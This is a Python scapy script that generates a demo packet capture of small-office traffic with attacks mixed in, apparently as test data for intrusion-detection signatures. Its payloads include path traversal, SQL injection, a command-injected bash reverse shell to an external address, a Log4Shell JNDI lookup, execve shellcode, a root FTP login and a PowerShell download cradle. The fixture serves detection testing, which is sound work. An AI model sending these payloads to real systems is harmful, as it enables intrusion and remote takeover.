#!/usr/bin/env python3
"""Builds pcaps/demo.pcap: a few seconds of a small office's mirror port, with attacks.

Run from the checkout: ``.venv/bin/python pcaps/make_demo.py``.  The output is
committed; this script is how it was made (scapy, complete TCP sessions with
handshakes, correct sequence numbers and checksums, closed by FIN).

Internal network 192.168.10.0/24 (and 192.168.20.0/24 on VLAN 100, and
2001:db8:10::/48), external hosts in 198.51.100.0/24 and 203.0.113.0/24.
What the bundled signatures should find is listed in EXPECTED (sid -> alerts).
"""

from __future__ import annotations

import sys
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Dot1Q, Ether
from scapy.utils import PcapWriter

T0 = 1704110400.0  # 2024-01-01T12:00:00Z
MSS = 1400
EXPECTED = {
    9000001: 1, 9000010: 1, 9000011: 1, 9000012: 1, 9000013: 1, 9000014: 1, 9000020: 1, 9000021: 1,
    9000030: 3, 9000031: 1, 9000032: 1, 9000033: 1, 9000040: 1, 9000042: 1, 9000043: 1, 9000050: 1,
    9000051: 1,
}

GW_MAC, HOST_MAC = "00:1b:21:0a:0b:01", "00:1b:21:0a:0b:{:02x}"


class Clock:
    def __init__(self, t: float):
        self.t = t

    def tick(self, dt: float = 0.0005) -> float:
        self.t += dt
        return self.t


def l2(src: str, dst: str, vlan: int | None):
    """Ethernet (+802.1Q) towards/from the gateway, MACs derived from the last address byte."""
    def mac(a):
        return HOST_MAC.format(int(a.replace(":", ".").split(".")[-1] or "0", 16 if ":" in a else 10) & 0xFF)
    internal_src = src.startswith(("192.168.", "2001:db8:10:"))
    e = Ether(src=mac(src) if internal_src else GW_MAC, dst=GW_MAC if internal_src else mac(dst))
    return e / Dot1Q(vlan=vlan) if vlan is not None else e


def ip(src: str, dst: str):
    return IPv6(src=src, dst=dst, hlim=64) if ":" in src else IP(src=src, dst=dst, ttl=64)


def tcp_session(out, clk, client, cport, server, sport, exchange, vlan=None, isn=(1000, 50000), rtt=0.02,
                close=True, splits=None):
    """A whole TCP conversation: handshake, ``exchange`` [(to_server: bool, bytes)], FIN/ACK close.

    ``splits`` maps an exchange index to the byte offsets where that message is
    cut into separate segments (to make matches span segments).
    """
    cseq, sseq = isn

    def pkt(to_server, flags, payload=b""):
        s, d, sp, dp = (client, server, cport, sport) if to_server else (server, client, sport, cport)
        seq, ack = (cseq, sseq) if to_server else (sseq, cseq)
        p = l2(s, d, vlan) / ip(s, d) / TCP(sport=sp, dport=dp, flags=flags, seq=seq, ack=ack if "A" in flags else 0,
                                           window=64240 if to_server else 65160)
        if payload:
            p = p / payload
        p.time = clk.tick(rtt / 2 if flags in ("S", "SA") else 0.0005)
        out.append(p)

    pkt(True, "S")
    cseq += 1
    pkt(False, "SA")
    sseq += 1
    pkt(True, "A")
    for i, (to_server, data) in enumerate(exchange):
        cuts = [0] + list((splits or {}).get(i, ())) + [len(data)]
        pieces = [data[a:b] for a, b in zip(cuts, cuts[1:])]
        pieces = [p[j:j + MSS] for p in pieces for j in range(0, len(p), MSS)]
        for piece in pieces:
            pkt(to_server, "PA", piece)
            if to_server:
                cseq += len(piece)
            else:
                sseq += len(piece)
        clk.tick(rtt / 2)
        pkt(not to_server, "A")
    if close:
        pkt(True, "FA")
        cseq += 1
        pkt(False, "FA")
        sseq += 1
        pkt(True, "A")
    clk.tick(0.3)


def http_get(host, path, extra=b""):
    return (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:121.0) "
            f"Gecko/20100101 Firefox/121.0\r\nAccept: */*\r\n").encode() + extra + b"\r\n"


def http_resp(body: bytes, status=b"200 OK", ctype=b"text/html"):
    return (b"HTTP/1.1 " + status + b"\r\nServer: nginx/1.24.0\r\nContent-Type: " + ctype
            + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)


def dns(out, clk, client, server, name, qid, answer=None, qtype="A"):
    q = l2(client, server, None) / ip(client, server) / UDP(sport=40000 + qid % 20000, dport=53) / DNS(
        id=qid, rd=1, qd=DNSQR(qname=name, qtype=qtype))
    q.time = clk.tick(0.01)
    out.append(q)
    an = [DNSRR(rrname=name, type="A", ttl=300, rdata=answer)] if answer else []
    r = l2(server, client, None) / ip(server, client) / UDP(sport=53, dport=40000 + qid % 20000) / DNS(
        id=qid, qr=1, rd=1, ra=1, rcode=0 if answer else 3, qd=DNSQR(qname=name, qtype=qtype), an=an)
    r.time = clk.tick(0.012)
    out.append(r)


def build() -> list:
    out: list = []
    clk = Clock(T0)
    me, lan_dns, web = "192.168.10.21", "192.168.10.1", "192.168.10.80"

    # Ordinary browsing: DNS lookup, then a page.
    dns(out, clk, me, lan_dns, "www.example.com.", 4101, "203.0.113.80")
    page = b"<!doctype html><html><head><title>Example</title></head><body>" + b"<p>hello</p>" * 300 + b"</body></html>"
    tcp_session(out, clk, me, 51000, "203.0.113.80", 80, [(True, http_get("www.example.com", "/")), (False, http_resp(page))])

    # testmynids.org style check: the reply says uid=0(root), split across two segments.
    tcp_session(out, clk, me, 51002, "203.0.113.10", 80,
                [(True, http_get("testmynids.org", "/uid/index.html")),
                 (False, http_resp(b"uid=0(root) gid=0(root) groups=0(root)\n", ctype=b"text/plain"))],
                splits={1: [len(http_resp(b"uid=0(root) gid=0(root) groups=0(root)\n", ctype=b"text/plain")) - 34]})

    # A DNS lookup of a Tor hidden service name.
    dns(out, clk, me, lan_dns, "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion.", 4102)

    # Recon from outside: ping without payload, XMAS and NULL scans, an SSH connection burst.
    attacker = "198.51.100.66"
    for seq, payload in ((1, b""), (2, b"abcdefghijklmnopqrstuvwabcdefghi")):
        p = l2(attacker, web, None) / IP(src=attacker, dst=web) / ICMP(type=8, id=0x4d57, seq=seq) / payload
        p.time = clk.tick(0.05)
        out.append(p)
        r = l2(web, attacker, None) / IP(src=web, dst=attacker) / ICMP(type=0, id=0x4d57, seq=seq) / payload
        r.time = clk.tick(0.001)
        out.append(r)
    for port in (21, 22, 23):
        p = l2(attacker, web, None) / IP(src=attacker, dst=web) / TCP(sport=61000 + port, dport=port, flags="FPU", seq=7)
        p.time = clk.tick(0.01)
        out.append(p)
    p = l2(attacker, web, None) / IP(src=attacker, dst=web) / TCP(sport=61100, dport=443, flags="", seq=0, ack=0)
    p.time = clk.tick(0.01)
    out.append(p)
    brute = "198.51.100.77"
    for i in range(6):
        sp = 52000 + i
        s = l2(brute, "192.168.10.22", None) / IP(src=brute, dst="192.168.10.22") / TCP(sport=sp, dport=22, flags="S", seq=9000 + i)
        s.time = clk.tick(0.2)
        r = l2("192.168.10.22", brute, None) / IP(src="192.168.10.22", dst=brute) / TCP(
            sport=22, dport=sp, flags="RA", seq=0, ack=9001 + i)
        r.time = clk.tick(0.001)
        out += [s, r]

    # Attacks on the internal web server.
    tcp_session(out, clk, attacker, 53001, web, 80,
                [(True, http_get("192.168.10.80", "/cgi-bin/view.cgi?file=../../../../etc/passwd")),
                 (False, http_resp(b"<h1>404 Not Found</h1>", status=b"404 Not Found"))])
    sqli = ("/products.php?id=1%20UNION%20ALL%20SELECT%20NULL,CONCAT(user(),0x3a,version()),NULL--%20-")
    tcp_session(out, clk, attacker, 53002, web, 80,
                [(True, http_get("192.168.10.80", sqli).replace(b"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
                                                              b"sqlmap/1.7.2#stable (https://sqlmap.org)")),
                 (False, http_resp(b"<h1>500 Internal Server Error</h1>", status=b"500 Internal Server Error"))])
    form = b"host=127.0.0.1;bash -i >& /dev/tcp/198.51.100.66/4444 0>&1"
    tcp_session(out, clk, attacker, 53003, web, 80,
                [(True, b"POST /admin/ping.php HTTP/1.1\r\nHost: 192.168.10.80\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                  b"Content-Length: " + str(len(form)).encode() + b"\r\n\r\n" + form),
                 (False, http_resp(b"PING 127.0.0.1 (127.0.0.1) 56(84) bytes of data.\n"))])
    tcp_session(out, clk, "198.51.100.44", 53004, web, 8080,
                [(True, http_get("192.168.10.80:8080", "/", b"X-Api-Version: ${jndi:ldap://198.51.100.44:1389/Exploit}\r\n")),
                 (False, http_resp(b"{}", ctype=b"application/json"))])

    # Shellcode to an SMB port: NOP sled then execve("/bin//sh").
    shell = b"\x00\x00\x10\x00" + b"\x90" * 64 + b"\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80"
    tcp_session(out, clk, "203.0.113.99", 53005, "192.168.10.30", 445, [(True, shell)])

    # FTP root login from outside (flowbits pair), with a successful reply.
    tcp_session(out, clk, "198.51.100.90", 53006, "192.168.10.25", 21,
                [(False, b"220 ProFTPD Server (files) [192.168.10.25]\r\n"), (True, b"USER root\r\n"),
                 (False, b"331 Password required for root\r\n"), (True, b"PASS toor\r\n"),
                 (False, b"230 User root logged in\r\n"), (True, b"QUIT\r\n"), (False, b"221 Goodbye.\r\n")])
    # The same client name on an anonymous login: no alert (flowbit not set).
    tcp_session(out, clk, "198.51.100.91", 53007, "192.168.10.25", 21,
                [(False, b"220 ProFTPD Server (files) [192.168.10.25]\r\n"), (True, b"USER anonymous\r\n"),
                 (False, b"331 Anonymous login ok\r\n"), (True, b"PASS guest@\r\n"),
                 (False, b"230 Anonymous access granted\r\n")])

    # IPv6 intranet page with Basic authentication in clear text.
    tcp_session(out, clk, "2001:db8:10::21", 51010, "2001:db8:10::80", 80,
                [(True, http_get("intranet.example", "/reports/", b"Authorization: Basic YWxpY2U6c3VtbWVyMjAyNA==\r\n")),
                 (False, http_resp(b"<html>reports</html>"))])

    # VLAN 100 guest network downloads the EICAR test file.
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    tcp_session(out, clk, "192.168.20.5", 51020, "203.0.113.50", 80,
                [(True, http_get("files.example", "/eicar.com")), (False, http_resp(eicar, ctype=b"application/octet-stream"))],
                vlan=100)
    # A web page that hands out a PowerShell download cradle.
    cradle = b"<script>cmd = 'powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString(\\'http://203.0.113.7/a.ps1\\')\"'</script>"
    tcp_session(out, clk, me, 51030, "203.0.113.7", 80,
                [(True, http_get("203.0.113.7", "/update.html")), (False, http_resp(cradle))])
    return out


def main(argv: list[str]) -> int:
    path = Path(argv[1]) if len(argv) > 1 else Path(__file__).resolve().parent / "demo.pcap"
    pkts = build()
    w = PcapWriter(str(path), linktype=1, sync=False)
    for p in pkts:
        w.write(p)
    w.close()
    print(f"wrote {path} ({len(pkts)} packets)")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
